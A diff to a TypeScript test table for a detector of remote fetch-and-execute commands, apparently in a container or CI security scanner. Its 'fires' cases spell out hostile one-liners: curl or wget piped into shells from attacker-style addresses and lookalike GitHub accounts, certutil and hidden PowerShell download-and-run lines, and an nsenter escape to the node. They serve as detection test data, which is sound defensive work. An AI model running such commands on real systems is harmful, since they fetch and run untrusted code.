@@ -7,9 +7,77 @@ import { PUBLISHERS } from '../publishers.ts';
 import { blank, cronJob, indicatorTable, runs, script, UNSEEN } from '../testing.ts';
 import { commandRemoteFetchExecute } from './remote-fetch-execute.ts';
 
+const of = (image: string, text: string) =>
+  cronJob({ containers: [{ name: 'main', image, command: ['/bin/sh', '-c', text] }] });
+const OWN = 'https://raw.githubusercontent.com/acme/api/main/check.sh';
+
 indicatorTable(commandRemoteFetchExecute, {
   fires: {
+    'a script of another account than the one of the image': of(
+      'ghcr.io/acme/tools',
+      'curl -s https://raw.githubusercontent.com/acmee/api/main/check.sh | sh',
+    ),
+    'an account of the same name at another registry': of('docker.io/acme/tools', `curl -s ${OWN} | sh`),
+    'an address that leads up from the account': of(
+      'ghcr.io/acme/tools',
+      'curl -s https://raw.githubusercontent.com/acme/../evil/x/main/x.sh | sh',
+    ),
+    'a part of the address that nobody has seen': of(
+      'ghcr.io/acme/tools',
+      'curl -s "https://raw.githubusercontent.com/acme/$WHERE/x.sh" | sh',
+    ),
+    'its own script by plain http': of('ghcr.io/acme/tools', `curl -s ${OWN.replace('https', 'http')} | sh`),
+    'a commit of anybody under the name of its account': of(
+      'ghcr.io/acme/tools',
+      `curl -s ${OWN.replace('main', '0a1b2c3d4e5f60718293a4b5c6d7e8f901234567')} | sh`,
+    ),
+    'a pull request of anybody under the name of its account': of(
+      'ghcr.io/acme/tools',
+      `curl -s ${OWN.replace('main', 'refs/pull/7/head')} | sh`,
+    ),
+    'a file that anybody hung on a comment': of(
+      'ghcr.io/acme/tools',
+      'curl -sLo /tmp/x https://github.com/acme/api/files/1234567/x.sh; sh /tmp/x',
+    ),
+    'a commit of anybody under the name of a known project': script(
+      'curl -sLo k https://github.com/kubernetes/kubernetes/raw/0a1b2c3/k; chmod +x k; ./k',
+    ),
+    'an upload of anybody under the name of a known project': script(
+      'curl -sLo k https://github.com/grafana/grafana/assets/1234567/k; chmod +x k; ./k',
+    ),
+    'an installer out of a commit that may be of a fork': script(
+      'curl -s https://raw.githubusercontent.com/helm/helm/0a1b2c3d4e5f60718293a4b5c6d7e8f901234567/get | bash',
+    ),
+    'its own script, on the node': of('ghcr.io/acme/tools', `nsenter -t 1 -m -- sh -c 'curl -s ${OWN} | sh'`),
+    'its own script and another one': of(
+      'ghcr.io/acme/tools',
+      `curl -s ${OWN} https://raw.githubusercontent.com/evil/x/main/x.sh | sh`,
+    ),
+    'a script of the account of a neighbour container': cronJob({
+      containers: [
+        { name: 'good', image: 'ghcr.io/acme/tools' },
+        { name: 'main', image: 'alpine', command: ['sh', '-c', `curl -s ${OWN} | sh`] },
+      ],
+    }),
+    'an archive of Java': script('curl -sO http://203.0.113.7/agent.jar && java -Xmx1g -jar agent.jar --host a'),
     'an address that deno runs': runs('deno', 'run', '-A', 'https://203.0.113.7/mod.ts'),
+    'the shell of Windows': runs(
+      'cmd.exe',
+      '/c',
+      'certutil -urlcache -split -f http://203.0.113.7/a.exe C:\\Temp\\a.exe && C:\\Temp\\a.exe',
+    ),
+    'PowerShell that evaluates a page': runs(
+      'powershell',
+      '-nop',
+      '-w',
+      'hidden',
+      '-c',
+      'iex (iwr http://203.0.113.7/a.ps1)',
+    ),
+    'the older PowerShell without an option': runs(
+      'powershell.exe',
+      'IEX(New-Object Net.WebClient).DownloadString("http://203.0.113.7/a")',
+    ),
     'curl into sh': runs('sh', '-c', 'curl -s http://203.0.113.7/x | sh'),
     'wget into an absolute bash path': runs('/bin/sh', '-c', 'wget -qO- 203.0.113.7|/bin/bash'),
     'a dash before the shell text': runs('/bin/sh', '-c', '--', 'curl http://files.example.com/x|sh'),
@@ -73,6 +141,24 @@ indicatorTable(commandRemoteFetchExecute, {
     ),
   },
   staysSilent: {
+    'a script of the account that publishes the image': of('ghcr.io/acme/tools', `curl -s ${OWN} | sh`),
+    'the same from a branch, written whole': of(
+      'ghcr.io/acme/tools',
+      `curl -s ${OWN.replace('main', 'refs/heads/main')} | sh`,
+    ),
+    'a release of the account that publishes the image': of(
+      'ghcr.io/acme/tools',
+      'curl -sLo t https://github.com/acme/api/releases/download/20260101/t; chmod +x t; ./t',
+    ),
+    'the same on another forge': of(
+      'registry.gitlab.com/acme/ops/tools:1',
+      'wget -qO /tmp/x https://gitlab.com/acme/ops/-/raw/main/x.sh && sh /tmp/x',
+    ),
+    'an archive of Java from the image': script(
+      'curl -s https://example.com/a.json -o a.json; java -jar /app/app.jar a.json',
+    ),
+    'a page that PowerShell reads': runs('pwsh', '-c', '(iwr https://example.com/a.json).Content | ConvertFrom-Json'),
+    'the sum of a file on Windows': runs('cmd', '/c', 'certutil -hashfile C:\\app\\a.dll SHA256 && C:\\app\\run.exe'),
     'what awk reads and puts into a command': runs('awk', 'BEGIN{"date" | getline d; system("echo " d)}'),
     'a download that is kept in memory': runs(
       'python3',
@@ -137,11 +223,18 @@ for (const wrapper of WRAPPER_NAMES) {
   test(`${wrapper} in front of the shell changes nothing`, () =>
     assert.equal(commandRemoteFetchExecute.assess(script(`curl http://203.0.113.7/x | ${before} sh`)).kind, 'hit'));
 }
+/** On GitHub not everything below the name of a project is the project's. */
+const releaseBelow = (place: string): string => {
+  if (!place.startsWith('https://github.com/')) return place;
+  const isProject = place.split('/').length > 5;
+  return `${place}${isProject ? '' : 'tool/'}releases/download/v1/tool`;
+};
 for (const place of PUBLISHERS) {
   const text = (at: string) => script(`curl -Lo /tmp/tool ${at} && chmod +x /tmp/tool`);
   test(`${place} is known only by https and by its whole name`, () => {
-    assert.equal(commandRemoteFetchExecute.assess(text(place)).kind, 'miss');
-    assert.equal(commandRemoteFetchExecute.assess(text(place.replace('https:', 'http:'))).kind, 'hit');
+    const at = releaseBelow(place);
+    assert.equal(commandRemoteFetchExecute.assess(text(at)).kind, 'miss');
+    assert.equal(commandRemoteFetchExecute.assess(text(at.replace('https:', 'http:'))).kind, 'hit');
   });
 }
 
